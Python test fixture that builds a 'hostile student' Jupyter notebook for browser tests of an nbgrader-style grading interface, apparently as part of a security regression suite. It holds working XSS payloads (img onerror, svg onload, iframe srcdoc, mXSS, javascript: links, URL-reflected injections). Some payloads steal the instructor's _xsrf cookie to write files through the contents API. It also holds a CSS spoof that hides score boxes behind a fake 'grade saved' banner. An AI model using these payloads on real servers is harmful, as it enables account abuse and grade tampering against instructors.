"""Hostile student content for the browser tests: every channel a hand-in has to a page.

Each payload is a *vector*, named ``<channel>-<kind>``. When script of its
runs, in any frame, it says so three ways: it sets ``data-xss-<vector>`` on
its document (and on the top document when it can), asks the loopback
:class:`Listener` for ``/fired/<vector>``, and tries the attack the issue
saw, ``PUT /api/contents/xss-<vector>.txt`` with the instructor's ``_xsrf``
cookie (a file in the course root if it worked).

Channels (the issue's list): ``ra`` a written answer, ``md`` a Markdown cell
the student adds, ``html`` / ``mdout`` / ``js`` outputs of type
``text/html``, ``text/markdown``, ``application/javascript``, ``repr`` the
rich output of a cell's last expression, ``code`` code cells the student
adds (cell magics, widgets), ``id`` the student's id and name from the
gradebook and from the URL, ``clic`` links that need one click.
"""

from __future__ import annotations

import base64
import http.server
import threading
import urllib.parse

import nbformat

MARKER_ATTRIBUTE = "data-xss-"
SPOOF_TEXT = "Note enregistrée : 2 / 2"

_JS = (
    "(function(v){{"
    "document.documentElement.setAttribute('data-xss-'+v,'1');"
    "try{{top.document.documentElement.setAttribute('data-xss-'+v,'1')}}catch(e){{}}"
    "try{{new Image().src='http://127.0.0.1:{port}/fired/'+v}}catch(e){{}}"
    "try{{var m=document.cookie.match(/_xsrf=([^;]+)/);"
    "fetch('/api/contents/xss-'+v+'.txt',{{method:'PUT',credentials:'same-origin',"
    "headers:{{'X-XSRFToken':m?decodeURIComponent(m[1]):'','Content-Type':'application/json'}},"
    "body:JSON.stringify({{type:'file',format:'text',content:v}})}})}}catch(e){{}}"
    "}})('{vector}')"
)


def script(vector, port):
    """The JavaScript that reports ``vector``."""
    return _JS.format(vector=vector, port=port)


def call(vector, port):
    """``script`` as one expression with no quote but single ones inside base64: fits any attribute."""
    return "eval(atob('%s'))" % base64.b64encode(script(vector, port).encode()).decode()


def html_payload(vector, kind, port):
    """One classic way into a page that renders HTML, reporting as ``vector``."""
    run = call(vector, port)
    if kind == "script":
        return f"<script>{script(vector, port)}</script>"
    if kind == "img":
        return f'<img src="x" onerror="{run}">'
    if kind == "svg":
        return f'<svg onload="{run}"></svg>'
    if kind == "iframe":
        return f'<iframe srcdoc="<script>{run}</script>"></iframe>'
    if kind == "details":
        return f'<details open ontoggle="{run}"><summary>.</summary></details>'
    if kind == "object":
        inner = base64.b64encode(f"<script>{script(vector, port)}</script>".encode()).decode()
        return f'<object data="data:text/html;base64,{inner}"></object>'
    if kind == "mxss":  # a parser differential: the sanitizer's parse against the browser's
        return f'<math><mtext><table><mglyph><style><img src="x" onerror="{run}">'
    raise ValueError(kind)


# "mxss" is not among them: in a browser that parses it as the attacker hopes,
# its unclosed <style> swallows the rest of the page, every later vector with
# it. It is planted once, in the hand-in's last cell (hostile_notebook).
HTML_KINDS = ("script", "img", "svg", "iframe", "details", "object")


def html_vectors(channel, port):
    """{vector: HTML}, one per kind of :func:`html_payload`."""
    return {f"{channel}-{kind}": html_payload(f"{channel}-{kind}", kind, port) for kind in HTML_KINDS}


def markdown_of(vectors):
    """Markdown holding each HTML vector as its own block."""
    return "\n\n".join(vectors.values()) + "\n"


def spoof():
    """A ``<style>`` that hid every score box of the grading page, and a fake confirmation."""
    return (
        "<style>input.score, input.extra-credit, .scoring-buttons { display: none !important; }</style>\n\n"
        f'<p class="alert alert-success navbar-fixed-top" style="position: fixed; top: 0; left: 0; width: 100%; '
        f'z-index: 99999">{SPOOF_TEXT}</p>\n'
    )


def click_links(port, student, assignment):
    """{vector: (link text, Markdown)}: links that run student code once the instructor clicks."""
    reflected = urllib.parse.quote(f'<img src="x" onerror="{call("clic-url", port)}">', safe="")
    return {
        "clic-js": ("lien-clic-js", f'<a href="javascript:{call("clic-js", port)}">lien-clic-js</a>'),
        "clic-url": ("lien-clic-url", f'<a href="/formgrader/manage_students/{reflected}">lien-clic-url</a>'),
        # nbgrader's /formgrader?path= loads that folder's nbgrader_config.py: the hand-in's own.
        "clic-path": ("lien-clic-path", f'<a href="/formgrader?path=submitted/{student}/{assignment}">lien-clic-path</a>'),
    }


def path_config():
    """The hand-in's own nbgrader_config.py: if the server ever loads it, it writes in the course root."""
    return "open('xss-clic-path.txt', 'w').write('nbgrader_config.py of a hand-in ran in the Jupyter server')\n"


def code_cells(port):
    """[(vector names, source)] of the code cells the hostile student adds: outputs of every kind."""
    imports = "from IPython.display import display, HTML, Markdown, Javascript, SVG\n"
    cells = []
    html = html_vectors("html", port)
    cells.append((list(html), imports + "".join(f"display(HTML({p!r}))\n" for p in html.values())))
    mdout = html_vectors("mdout", port)
    cells.append((list(mdout), imports + "".join(f"display(Markdown({p!r}))\n" for p in mdout.values())))
    js = {f"js-{k}": script(f"js-{k}", port) for k in ("display", "raw", "publish", "lastexpr", "function")}
    cells.append(
        (
            list(js)[:4],
            imports
            + "from IPython.display import publish_display_data\n"
            + f"display(Javascript({js['js-display']!r}))\n"
            + f"display({{'application/javascript': {js['js-raw']!r}}}, raw=True)\n"
            + f"publish_display_data({{'application/javascript': {js['js-publish']!r}, 'text/plain': 'js'}})\n"
            + f"Javascript({js['js-lastexpr']!r})\n",
        )
    )
    cells.append((["js-function"], f"from IPython.display import display_javascript\ndisplay_javascript({js['js-function']!r}, raw=True)\n"))
    reprs = {
        "repr-html": f"_repr_html_ = lambda self: {html_payload('repr-html', 'img', port)!r}",
        "repr-markdown": f"_repr_markdown_ = lambda self: {html_payload('repr-markdown', 'svg', port)!r}",
        "repr-javascript": f"_repr_javascript_ = lambda self: {script('repr-javascript', port)!r}",
        "repr-mimebundle": "_repr_mimebundle_ = lambda self, **kw: {'text/html': "
        + repr(html_payload("repr-mimebundle", "details", port))
        + ", 'application/javascript': "
        + repr(script("repr-mimebundle", port))
        + "}",
        "repr-svg": f"_repr_svg_ = lambda self: {('<svg xmlns=%s onload=%s><script>%s</script></svg>' % (chr(34) + 'http://www.w3.org/2000/svg' + chr(34), chr(34) + call('repr-svg', port) + chr(34), script('repr-svg', port)))!r}",
    }
    for vector, method in reprs.items():
        cells.append(([vector], f"class Riche:\n    {method}\nRiche()\n"))
    cells.append((["code-html"], "%%html\n" + html_payload("code-html", "img", port) + "\n"))
    cells.append((["code-javascript"], "%%javascript\n" + script("code-javascript", port) + "\n"))
    cells.append((["code-markdown"], "%%markdown\n" + html_payload("code-markdown", "svg", port) + "\n"))
    cells.append((["code-js"], "%%js\n" + script("code-js", port) + "\n"))
    widget = {"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2, "version_minor": 0}, "text/html": html_payload("code-widget", "iframe", port)}
    cells.append((["code-widget"], f"display({widget!r}, raw=True)\n"))
    return cells


def id_vectors(port):
    """{vector: value}: student names and ids as the gradebook may hold them (``nbgrader db student add``)."""
    return {
        "id-first": f'<img src="x" onerror="{call("id-first", port)}">',
        "id-last": f'<svg onload="{call("id-last", port)}"></svg>',
        "id-db-html": f'<img src="x" onerror="{call("id-db-html", port)}">',
        "id-db-js": f'";{call("id-db-js", port)};"',
        "id-db-details": f'<details open ontoggle="{call("id-db-details", port)}">',
        # No double quote: json.dumps leaves it as it is, in a JSON answer served as text/html.
        "id-db-api": f"<img src=x onerror={call('id-db-api', port)}>",
    }


def url_vectors(port, student, assignment):
    """{vector: formgrader path}: pages that print a value taken from their URL."""
    q = lambda value: urllib.parse.quote(value, safe="")  # noqa: E731
    img = lambda v: q(f'<img src="x" onerror="{call(v, port)}">')  # noqa: E731
    return {
        "id-url-student": f"formgrader/manage_students/{img('id-url-student')}",
        "id-url-student-js": f"formgrader/manage_students/{q(chr(34) + ';' + call('id-url-student-js', port) + ';' + chr(34))}",
        "id-url-assignment": f"formgrader/manage_students/{student}/{img('id-url-assignment')}",
        "id-url-gradebook": f"formgrader/gradebook/{img('id-url-gradebook')}",
        "id-url-notebook": f"formgrader/gradebook/{assignment}/{img('id-url-notebook')}",
        "id-url-submissions": f"formgrader/manage_submissions/{img('id-url-submissions')}",
        # nbgrader's JSON API, with an id the gradebook holds: the same vector as id_vectors' one.
        "id-db-api": f"formgrader/api/student/{q(id_vectors(port)['id-db-api'])}",
    }


def hostile_notebook(nb, answer_grade_id, port, student, assignment):
    """``nb`` (a solved release notebook) with every channel loaded: the written answer, added Markdown and code cells.

    Returns (notebook, vector names).
    """
    links = click_links(port, student, assignment)
    vectors = {}
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == answer_grade_id:
            ra = html_vectors("ra", port)
            vectors.update(dict.fromkeys(ra))
            cell.source = (
                "Le perceptron ne sépare pas XOR.\n\n" + spoof() + "\n" + markdown_of(ra) + "\n"
                + "\n\n".join(markdown for _, markdown in links.values()) + "\n"
            )
            vectors.update(dict.fromkeys(links))
            index = nb.cells.index(cell)
            break
    else:
        raise KeyError(answer_grade_id)
    added = []
    md = html_vectors("md", port)
    vectors.update(dict.fromkeys(md))
    added.append(nbformat.v4.new_markdown_cell("## Mes notes\n\n" + markdown_of(md)))
    for names, source in code_cells(port):
        vectors.update(dict.fromkeys(names))
        added.append(nbformat.v4.new_code_cell(source))
    nb.cells[index + 1 : index + 1] = added
    nb.cells.append(nbformat.v4.new_markdown_cell("Fin.\n\n" + html_payload("md-mxss", "mxss", port) + "\n"))
    vectors["md-mxss"] = None
    return nb, list(vectors)


TABLE_MARKDOWN = "| couche | taille |\n|---|---|\n| entrée | 2 |\n| sortie | 1 |\n"
TABLE_HTML = '<table class="dataframe" border="1"><thead><tr><th>époque</th><th>perte</th></tr></thead><tbody><tr><td>1</td><td>0.69</td></tr></tbody></table>'


def with_tables(nb):
    """``nb`` plus what a careful student adds: a Markdown table, and a table as an HTML output (pandas' form)."""
    nb.cells.append(nbformat.v4.new_markdown_cell("Résumé du réseau :\n\n" + TABLE_MARKDOWN))
    nb.cells.append(nbformat.v4.new_code_cell(f"from IPython.display import HTML\nHTML({TABLE_HTML!r})\n"))
    return nb


class Listener:
    """A loopback HTTP server that records the vectors whose script called it."""

    def __init__(self, port=0):
        fired = self.fired = set()

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                if self.path.startswith("/fired/"):
                    fired.add(urllib.parse.unquote(self.path[len("/fired/") :]))
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", port), Handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *exc):
        self.server.shutdown()
        self.server.server_close()
